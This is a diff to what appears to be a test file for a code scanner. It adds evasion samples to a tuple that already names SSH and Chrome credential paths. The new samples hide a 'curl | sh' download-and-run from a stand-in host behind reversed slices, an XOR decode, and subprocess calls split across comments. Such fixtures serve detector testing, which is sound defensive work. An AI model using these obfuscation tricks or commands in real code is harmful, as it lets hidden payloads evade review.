@@ -129,10 +129,17 @@ EVASIONS = (
     "KEY = '~/.s\\\nsh/config'\n",
     "KEY = '\\tid_ed25519'\n",
     "P = 'C:\\\\Users\\\\me\\\\AppData\\\\Local\\\\Google\\\\Chrome\\\\User Data'\n",
+    "import subprocess\nblob = b'\\x01'\ncode = bytes(b  # [\n    ^ 7 for b in blob)\n"
+    "subprocess.call(code)\n",
+    "import subprocess\ncmd = 'hs | x/diavni.x//:sptth Ls- lruc'[x  # [\n    :: -1]\n"
+    "subprocess.call(cmd, shell=True)\n",
+    "import subprocess\ncmd = 'hs | x/diavni.x//:sptth Ls- lruc'[len('[')::(-1)]\n"
+    "subprocess.call(cmd, shell=True)\n",
 )
 """Shapes written to slip past token checks (aliases, list-form commands, names by string,
 runners passed by name, fullwidth identifiers, escaped or split literals, spacing, slices with
-other steps, letters re.IGNORECASE takes for ASCII ones)."""
+other steps, letters re.IGNORECASE takes for ASCII ones, an XOR and reversing slices spelt
+across comments and brackets)."""
 
 
 def test_prefilter_never_hides_an_import_time_finding(tmp_path: Path) -> None:
